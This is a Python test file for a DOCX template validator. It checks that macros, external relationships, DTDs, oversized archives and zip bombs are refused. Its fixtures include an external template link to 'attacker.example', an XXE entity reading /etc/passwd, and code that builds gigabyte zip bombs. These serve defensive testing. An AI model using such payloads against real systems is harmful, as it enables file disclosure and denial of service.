"""Uploaded templates: container limits, macros, DTDs, external links, variables."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from docx import Document

from documents.docx.context import KIND_VARIABLES
from documents.docx.errors import TemplateInvalid, TemplateUnsafe
from documents.docx.validate import TemplateInfo, validate_template

TEMPLATES = Path(__file__).resolve().parents[2] / "templates_docx"


def base_docx(*paragraphs: str) -> bytes:
    doc = Document()
    for text in paragraphs or ("Приказ № {{ doc.number }} от {{ doc.date }}",):
        doc.add_paragraph(text)
    raw = io.BytesIO()
    doc.save(raw)
    return raw.getvalue()


def rezip(
    data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """Copy a DOCX changing or adding members."""
    replace, add = replace or {}, add or {}
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, body in add.items():
            dst.writestr(name, body)
    return out.getvalue()


def raw_zip(name: str, payload: bytes, declared_size: int, crc: int) -> bytes:
    """A one-member zip whose deflate stream and declared size we choose ourselves."""
    header = struct.pack(
        "<4sHHHHHIIIHH",
        b"PK\x03\x04",
        20,
        0,
        8,
        0,
        0,
        crc,
        len(payload),
        declared_size,
        len(name),
        0,
    )
    local = header + name.encode() + payload
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        0,
        crc,
        len(payload),
        declared_size,
        len(name),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    central += name.encode()
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + eocd


def deflated_zeros(total: int, chunk: int = 1 << 20) -> bytes:
    """Raw deflate of `total` zero bytes, built from one repeated flushed block (fast)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(chunk)
    first = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    repeat = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    return first + repeat * (total // chunk - 1) + comp.flush()


def test_valid_template_returns_hash_and_variables():
    data = base_docx(
        "Приказ № {{ doc.number }} от {{ doc.date }}",
        "{%p for c in clauses %}",
        "{{ c.n }}. {{ c.text }}",
        "{%p endfor %}",
    )
    info = validate_template(data, "order")
    assert isinstance(info, TemplateInfo)
    assert info.variables == ["clauses", "doc"]
    assert len(info.sha256) == 64


@pytest.mark.parametrize("kind", sorted(KIND_VARIABLES))
def test_builtin_templates_pass_validation(kind):
    info = validate_template((TEMPLATES / f"{kind}.docx").read_bytes(), kind)
    assert set(info.variables) <= KIND_VARIABLES[kind]
    assert "org" in info.variables and "doc" in info.variables


def test_unknown_variable_is_named():
    data = base_docx("{{ doc.number }} {{ pupil_passport }}")
    with pytest.raises(TemplateInvalid, match="pupil_passport") as err:
        validate_template(data, "order")
    assert not isinstance(err.value, TemplateUnsafe)


def test_variable_of_another_kind_is_unknown():
    with pytest.raises(TemplateInvalid, match="pairs"):
        validate_template(base_docx("{{ pairs }}"), "regulation")


def test_syntax_error_is_reported_with_part():
    with pytest.raises(TemplateInvalid, match=r"Синтаксическая ошибка.*word/document\.xml"):
        validate_template(base_docx("{% for c in clauses %}{{ c.text }}"), "order")


def test_unknown_filter_is_refused():
    with pytest.raises(TemplateInvalid, match="неизвестный фильтр «nosuch»"):
        validate_template(base_docx("{{ title|nosuch }}"), "order")


@pytest.mark.parametrize("data", [b"", b"%PDF-1.7 not a docx", b"PK\x03\x04broken"])
def test_not_a_docx(data):
    with pytest.raises(TemplateInvalid, match="не является документом DOCX"):
        validate_template(data, "order")


def test_zip_without_word_document():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(TemplateInvalid, match="word/document.xml"):
        validate_template(out.getvalue(), "order")


def test_docm_with_vba_project_is_refused():
    data = rezip(base_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    with pytest.raises(TemplateInvalid, match="макрос"):
        validate_template(data, "order")


def test_macro_enabled_content_type_is_refused():
    base = base_docx()
    types = (
        zipfile.ZipFile(io.BytesIO(base))
        .read("[Content_Types].xml")
        .replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    )
    with pytest.raises(TemplateInvalid, match=r"\.docm"):
        validate_template(rezip(base, {"[Content_Types].xml": types}), "order")


def test_external_relationship_is_refused():
    base = base_docx()
    rels = (
        zipfile.ZipFile(io.BytesIO(base))
        .read("word/_rels/document.xml.rels")
        .replace(
            b"</Relationships>",
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
            b'TargetMode="External"/></Relationships>',
        )
    )
    with pytest.raises(TemplateInvalid, match="attacker.example"):
        validate_template(rezip(base, {"word/_rels/document.xml.rels": rels}), "order")


@pytest.mark.parametrize("part", ["word/document.xml", "docProps/core.xml"])
def test_dtd_and_external_entity_are_refused(part):
    base = base_docx()
    xml = zipfile.ZipFile(io.BytesIO(base)).read(part)
    decl_end = xml.index(b"?>") + 2
    evil = (
        xml[:decl_end]
        + b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + xml[decl_end:]
    )
    with pytest.raises(TemplateInvalid, match="DTD") as err:
        validate_template(rezip(base, {part: evil}), "order")
    assert part in err.value.message


def test_more_than_1000_members_is_refused():
    data = rezip(base_docx(), add={f"customXml/extra{i}.xml": b"<a/>" for i in range(1001)})
    with pytest.raises(TemplateInvalid, match="слишком много файлов"):
        validate_template(data, "order")


def test_over_50_mb_unpacked_is_refused():
    data = rezip(base_docx(), add={"word/media/big.bin": bytes(60 * 2**20)})
    with pytest.raises(TemplateInvalid, match="50 МБ|степень сжатия"):
        validate_template(data, "order")


def test_high_compression_ratio_is_refused():
    data = rezip(base_docx(), add={"word/media/zeros.bin": bytes(5 * 2**20)})
    with pytest.raises(TemplateInvalid, match="степень сжатия"):
        validate_template(data, "order")


def test_gigabyte_zip_bomb_is_refused_fast_without_memory_growth():
    size = 1 << 30
    bomb = raw_zip("word/document.xml", deflated_zeros(size), size, 0)
    assert len(bomb) < 2 * 2**20
    tracemalloc.start()
    start = time.perf_counter()
    with pytest.raises(TemplateInvalid):
        validate_template(bomb, "order")
    elapsed = time.perf_counter() - start
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert elapsed < 1.0
    assert peak < 20 * 2**20


def test_lying_header_cannot_inflate_past_the_cap():
    """Declared 1 KB, really 1 GB: decompression stops at the declared size."""
    bomb = raw_zip("word/document.xml", deflated_zeros(1 << 30), 1024, 0)
    tracemalloc.start()
    start = time.perf_counter()
    with pytest.raises(TemplateInvalid):
        validate_template(bomb, "order")
    elapsed = time.perf_counter() - start
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert elapsed < 1.0 and peak < 20 * 2**20


def test_unknown_kind():
    with pytest.raises(TemplateInvalid, match="Неизвестный вид"):
        validate_template(base_docx(), "memo")
